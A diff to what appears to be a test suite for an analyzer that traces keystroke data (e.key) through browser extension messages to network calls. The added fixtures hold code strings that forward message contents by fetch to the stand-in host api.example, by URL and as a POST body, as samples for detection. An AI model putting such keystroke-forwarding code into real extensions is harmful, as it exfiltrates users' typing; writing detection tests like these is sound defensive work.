@@ -34,4 +34,13 @@ describe('what a message is told by', () => {
     expect(await arrive(`const o = { detail: e.key }; o.news = true; ${says('o')}`, news)).toBe(true);
     expect(await arrive(says('{ ...base, detail: e.key }'), news)).toBe(true);
   });
+
+  it('says nothing of a part of the message, of another parameter, or of a text', async () => {
+    const part = `const ship = (t) => { if (t.length) fetch("https://api.example/n/" + t); }; ${heard('const t = m.detail; ship(t);')}`;
+    expect(await arrive(says('{ kind: "k", detail: e.key }'), part)).toBe(true);
+    const second = `const ship = (s, m) => { if (s.tab) ${ask}; }; chrome.runtime.onMessage.addListener((m, s) => { ship(s, m); });`;
+    expect(await arrive(says('{ kind: "k", detail: e.key }'), second)).toBe(true);
+    const text = heard('if (m.length) fetch("https://api.example/", { method: "POST", body: m });');
+    expect(await arrive(says('JSON.stringify({ kind: "k", detail: e.key })'), text)).toBe(true);
+  });
 });
